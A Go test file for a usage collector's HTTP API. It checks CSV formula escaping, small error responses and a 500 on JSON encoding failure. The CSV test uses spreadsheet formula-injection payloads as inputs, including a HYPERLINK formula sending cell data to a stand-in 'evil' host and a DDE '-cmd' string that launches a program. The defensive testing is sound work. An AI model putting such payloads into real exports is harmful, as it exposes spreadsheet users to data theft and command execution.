package collector

import (
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"math"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/krakend-usage/krakend-usage/usage/hashcash"
)

// TestStatsCSVSpreadsheetSafe: no cell of /api/stats.csv, read with a CSV
// parser, begins with a character a spreadsheet takes for a formula
// (OWASP: = + - @ TAB CR), and the value is kept behind the quote
// (before: =HYPERLINK(...) and -cmd came out as sent).
func TestStatsCSVSpreadsheetSafe(t *testing.T) {
	e := newEnv(t, Config{})
	// Versions are printable ASCII (usage's rule): TAB and CR can only
	// come in feature names.
	hostile := []string{`=HYPERLINK("http://evil/"&A1,"click")`, "+1+2", "-2", "@SUM(A1)"}
	for i, v := range hostile {
		tok := e.session("csv-c", "csv-s"+string(rune('a'+i)))
		req := validReport(t, tok, "csv-c", "csv-s"+string(rune('a'+i)), testBits)
		req.Data.Version = v
		req.Data.Extra = gatewayPayload(1, 1, map[string]int{"GET": 1}, map[string]int{"-cmd|' /C calc'!A0": 1, "\tx": 1, "\rx": 1, v: 1})
		mint(t, req, &hashcash.Minter{Bits: testBits})
		if code, m, _ := e.post("/report", req); code != 200 {
			t.Fatalf("report with version %q: %d %v", v, code, m)
		}
	}
	for _, series := range []string{"versions_weekly", "features"} {
		resp, err := http.Get(e.ts.URL + "/api/stats.csv?series=" + series)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(resp.Body).ReadAll()
		resp.Body.Close()
		if err != nil {
			t.Fatalf("%s: %v", series, err)
		}
		var all []string
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s: cell %q begins with a formula character", series, c)
				}
				all = append(all, c)
			}
		}
		if series == "versions_weekly" {
			for _, v := range hostile {
				if !strings.Contains(strings.Join(all, "\n"), "'"+v) {
					t.Errorf("%s: version %q not found behind a quote in %q", series, v, all)
				}
			}
		}
	}
}

// TestErrorAnswersSmall: every error answer stays under 1 KiB however long
// the input it names (before: ?after= of 60,000 characters got 60,089
// bytes).
func TestErrorAnswersSmall(t *testing.T) {
	e := newEnv(t, Config{})
	long := strings.Repeat("é", 30_000)
	for _, path := range []string{
		"/api/clusters?after=" + strings.Repeat("a", 60_000),
		"/api/clusters?after=" + long,
		"/api/clusters?limit=" + strings.Repeat("9", 60_000),
		"/api/stats?days=" + strings.Repeat("x", 60_000),
		"/api/stats.csv?series=" + strings.Repeat("s", 60_000),
		"/api/clusters/" + strings.Repeat("c", 4000),
	} {
		resp, err := http.Get(e.ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode < 400 || len(b) >= 1024 || !json.Valid(b) {
			t.Errorf("%s…: %d, %d bytes %.80q, want an error answer of JSON under 1 KiB", path[:30], resp.StatusCode, len(b), b)
		}
	}
}

// TestEncodingFailureIs500: an answer that cannot be encoded is a logged
// 500, not a 200 with an empty body.
func TestEncodingFailureIs500(t *testing.T) {
	var logs strings.Builder
	e := newEnv(t, Config{Logger: slog.New(slog.NewTextHandler(&logs, nil))})
	h := e.srv.route("test", func(w http.ResponseWriter, r *http.Request) error {
		return writeJSON(w, http.StatusOK, map[string]float64{"x": math.Inf(1)})
	})
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/", nil))
	if rec.Code != 500 || !json.Valid(rec.Body.Bytes()) {
		t.Errorf("got %d %q, want a JSON 500", rec.Code, rec.Body.String())
	}
	if !strings.Contains(logs.String(), "encoding the answer") {
		t.Errorf("logs %q, want the encoding error", logs.String())
	}
}
